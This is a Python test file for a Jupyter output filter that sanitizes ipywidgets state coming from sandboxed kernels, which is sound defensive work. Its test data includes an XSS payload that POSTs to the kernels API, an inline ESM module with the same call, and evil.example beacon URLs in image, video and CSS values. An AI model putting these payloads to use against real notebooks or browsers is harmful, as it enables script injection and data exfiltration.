"""The widget part of the output filter, fed with the state real ipywidgets objects produce.

A sandboxed kernel's widgets reach the browser only as models of the installed @jupyter-widgets packages,
with their HTML fields sanitized; inline modules (anywidget), links copying values in the browser, media
fetched from a URL and CSS with url() do not. Each refusal has a CONTROL: the same widget from an allowed
module, or with a harmless value, passes.
"""

from __future__ import annotations

import json

import ipywidgets as w
from inert import violations
from ipywidgets.widgets.widget import _remove_buffers

from jupyter_openshell.outputs.bundle import OutputOptions
from jupyter_openshell.outputs.messages import MessageFilter

XSS = "<img src=x onerror=\"fetch('/api/kernels',{method:'POST'})\">"


def _wire(widget) -> tuple[dict, list, list[bytes]]:
    state, paths, buffers = _remove_buffers(widget.get_state())
    return json.loads(json.dumps(state)), paths, [bytes(b) for b in buffers]


def _open(f: MessageFilter, comm_id: str, state: dict, paths=(), buffers=()) -> tuple[dict, list] | None:
    content = {
        "comm_id": comm_id,
        "target_name": "jupyter.widget",
        "data": {"state": state, "buffer_paths": list(paths)},
    }
    return f.from_kernel("comm_open", content, list(buffers))


def _update(f: MessageFilter, comm_id: str, state: dict, paths=(), buffers=()) -> tuple[dict, list] | None:
    content = {"comm_id": comm_id, "data": {"method": "update", "state": state, "buffer_paths": list(paths)}}
    return f.from_kernel("comm_msg", content, list(buffers))


def test_html_widget_value_is_sanitized_and_the_rest_kept():
    f = MessageFilter(OutputOptions())
    state, _, _ = _wire(w.HTML(value=f"<b>kept</b>{XSS}", description="label <i>text</i>"))
    content, _ = _open(f, "c1", state)
    out = content["data"]["state"]
    assert out["value"] == "<b>kept</b><img>"
    assert out["description"] == "label <i>text</i>" and out["description_allow_html"] is False  # text
    assert out["_model_name"] == "HTMLModel" and out["layout"].startswith("IPY_MODEL_")
    update, _ = _update(f, "c1", {"value": XSS})
    assert update["data"]["state"] == {"value": "<img>"}


def test_description_becomes_html_only_sanitized_even_when_the_flag_comes_later():
    f = MessageFilter(OutputOptions())
    state, _, _ = _wire(w.IntSlider(description=XSS))
    content, _ = _open(f, "b1", state)
    assert content["data"]["state"]["description"] == XSS  # shown as text while allow_html is off
    update, _ = _update(f, "b1", {"description_allow_html": True})
    assert update["data"]["state"] == {"description": "<img>", "description_allow_html": True}
    update, _ = _update(f, "b1", {"description": XSS + "<b>x</b>"})
    assert update["data"]["state"]["description"] == "<img><b>x</b>"


def test_inline_module_widgets_are_refused_and_their_updates_dropped():
    f = MessageFilter(OutputOptions())
    anywidget = {
        "_model_module": "anywidget",
        "_model_name": "AnyModel",
        "_view_module": "anywidget",
        "_view_name": "AnyView",
        "_model_module_version": "~0.9.*",
        "_view_module_version": "~0.9.*",
        "_esm": "export default { render() { fetch('/api/kernels', {method: 'POST'}) } }",
    }
    assert _open(f, "a1", anywidget) is None
    assert _update(f, "a1", {"_esm": "x"}) is None
    # an allowlisted module's model may not carry code either
    html, _, _ = _wire(w.HTML(value="ok"))
    content, _ = _open(
        f,
        "a2",
        {
            **html,
            "_esm": "export default {}",
            "_css": "@import url(x)",
            "code.js": "x",
            "unknown_field": "<script>",
        },
    )
    assert not {"_esm", "_css", "code.js", "unknown_field"} & set(content["data"]["state"])
    # CONTROL: the operator can allowlist a widget package (its renderer then gets the state as sent)
    trusting = MessageFilter(OutputOptions(widget_modules=frozenset({"anywidget"})))
    allowed, _ = _open(trusting, "a3", {**anywidget, "value": 1})
    assert allowed["data"]["state"]["value"] == 1 and "_esm" not in allowed["data"]["state"]


def test_models_from_an_unlisted_module_or_name_are_refused():
    f = MessageFilter(OutputOptions())
    html, _, _ = _wire(w.HTML(value="ok"))
    assert _open(f, "m1", {**html, "_model_module": "evil-widgets"}) is None
    assert _open(f, "m2", {**html, "_view_module": "evil-widgets"}) is None
    assert _open(f, "m3", {**html, "_model_name": "NoSuchModel"}) is None
    assert _open(f, "m4", html) is not None  # CONTROL
    update, _ = _update(f, "m4", {"_view_module": "evil-widgets", "_model_name": "X", "value": "v"})
    assert update["data"]["state"] == {"value": "v"}  # an update cannot change what the model is


def test_jslink_is_refused():
    a, b = w.Text(), w.HTML()
    link = w.jslink((a, "value"), (b, "value"))
    state, _, _ = _wire(link)
    f = MessageFilter(OutputOptions())
    assert state["_model_name"] == "LinkModel"
    assert _open(f, "l1", state) is None


def test_media_widgets_keep_image_bytes_but_never_a_url():
    f = MessageFilter(OutputOptions())
    state, paths, buffers = _wire(w.Image(value=b"\x89PNG\r\n\x1a\n-data", format="png"))
    content, out_buffers = _open(f, "i1", state, paths, buffers)
    assert content["data"]["state"]["format"] == "png" and content["data"]["buffer_paths"] == [["value"]]
    assert out_buffers == [b"\x89PNG\r\n\x1a\n-data"]
    url, paths, buffers = _wire(w.Image(value=b"https://evil.example/beacon?x=secret", format="url"))
    content, _ = _open(f, "i2", url, paths, buffers)
    assert "format" not in content["data"]["state"]  # the browser's default, png: the bytes are no URL
    update, _ = _update(f, "i1", {"format": "url"})
    assert update["data"]["state"] == {}
    video, paths, buffers = _wire(w.Video(value=b"https://evil.example/v.mp4", format="url"))
    content, _ = _open(f, "v1", video, paths, buffers)
    assert "format" not in content["data"]["state"]


def test_layout_and_style_values_cannot_load_anything():
    f = MessageFilter(OutputOptions())
    layout, _, _ = _wire(w.Layout(width="50%", border_top="1px solid red"))
    content, _ = _open(f, "y1", layout)
    assert (
        content["data"]["state"]["width"] == "50%"
        and content["data"]["state"]["border_top"] == "1px solid red"
    )
    update, _ = _update(
        f,
        "y1",
        {
            "width": "calc(100% - 2px)",
            "height": "url(https://evil.example/x)",
            "border_top": "1px solid \\75 rl(x)",
        },
    )
    assert update["data"]["state"] == {"width": "calc(100% - 2px)"}
    style, _, _ = _wire(w.HTML(value="x", style={"background": "red"}).style)
    content, _ = _open(f, "y2", style)
    assert content["data"]["state"]["background"] == "red"
    update, _ = _update(f, "y2", {"background": "image-set('https://evil.example/x.png' 1x)"})
    assert update["data"]["state"] == {}


def test_output_widget_outputs_are_filtered_like_display_data():
    f = MessageFilter(OutputOptions())
    state, _, _ = _wire(w.Output())
    state["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {"trusted": True},
            "data": {
                "text/html": XSS + "<b>shown</b>",
                "application/javascript": "alert(1)",
                "text/plain": "p",
            },
        },
        {"output_type": "stream", "name": "stdout", "text": "hello\n"},
        {"output_type": "weird", "data": {"text/html": "<script>x</script>"}},
    ]
    content, _ = _open(f, "o1", state)
    outputs = content["data"]["state"]["outputs"]
    assert outputs == [
        {
            "output_type": "display_data",
            "data": {"text/html": "<img><b>shown</b>", "text/plain": "p"},
            "metadata": {},
        },
        {"output_type": "stream", "name": "stdout", "text": "hello\n"},
    ]
    assert violations(str(outputs)) == []


def test_control_comm_states_are_filtered_when_a_page_reloads():
    f = MessageFilter(OutputOptions())
    f.from_frontend("comm_open", {"comm_id": "ctl", "target_name": "jupyter.widget.control", "data": {}})
    html, _, _ = _wire(w.HTML(value=XSS))
    img, paths, buffers = _wire(w.Image(value=b"PNGDATA", format="png"))
    states = {
        "h1": {
            "model_name": "HTMLModel",
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": html,
        },
        "i1": {
            "model_name": "ImageModel",
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": img,
        },
        "a1": {
            "model_name": "AnyModel",
            "model_module": "anywidget",
            "model_module_version": "0.9",
            "state": {"_model_module": "anywidget", "_model_name": "AnyModel", "_esm": "x"},
        },
        "x1": {
            "model_name": "HTMLModel",
            "model_module": "@jupyter-widgets/controls",
            "state": {**html, "_model_name": "LinkModel"},
        },
    }
    content, out_buffers = f.from_kernel(
        "comm_msg",
        {
            "comm_id": "ctl",
            "data": {
                "method": "update_states",
                "states": states,
                "buffer_paths": [["i1", "state", *p] for p in paths],
            },
        },
        buffers,
    )
    kept = content["data"]["states"]
    assert set(kept) == {"h1", "i1"} and kept["h1"]["state"]["value"] == "<img>"
    assert content["data"]["buffer_paths"] == [["i1", "state", "value"]] and out_buffers == [b"PNGDATA"]
    update, _ = _update(f, "h1", {"value": XSS})  # later updates of a model seen only there are filtered too
    assert update["data"]["state"] == {"value": "<img>"}


def test_unknown_comms_targets_and_custom_messages_are_dropped():
    f = MessageFilter(OutputOptions())
    assert (
        f.from_kernel("comm_msg", {"comm_id": "nope", "data": {"method": "update", "state": {}}}, []) is None
    )
    assert f.from_kernel("comm_open", {"comm_id": "p", "target_name": "plotly", "data": {}}, []) is None
    html, _, _ = _wire(w.HTML(value="x"))
    _open(f, "h", html)
    focus = {"comm_id": "h", "data": {"method": "custom", "content": {"do": "focus"}}}
    assert f.from_kernel("comm_msg", focus, [])[0] == focus
    evil = {"comm_id": "h", "data": {"method": "custom", "content": {"do": "focus", "html": XSS}}}
    assert f.from_kernel("comm_msg", evil, []) is None
    info, _ = f.from_kernel(
        "comm_info_reply",
        {"status": "ok", "comms": {"h": {"target_name": "x"}, "zz": {"target_name": "y"}}},
        [],
    )
    assert info["comms"] == {"h": {"target_name": "jupyter.widget"}}


def test_widget_views_only_for_models_the_filter_let_through():
    f = MessageFilter(OutputOptions())
    html, _, _ = _wire(w.HTML(value="x"))
    _open(f, "ok", html)
    view = "application/vnd.jupyter.widget-view+json"
    content, _ = f.from_kernel(
        "display_data",
        {"data": {view: {"model_id": "ok", "version_major": 2, "version_minor": 0}}, "metadata": {}},
        [],
    )
    assert content["data"][view] == {"model_id": "ok", "version_major": 2, "version_minor": 0}
    content, _ = f.from_kernel("display_data", {"data": {view: {"model_id": "unknown"}}, "metadata": {}}, [])
    assert view not in content["data"]
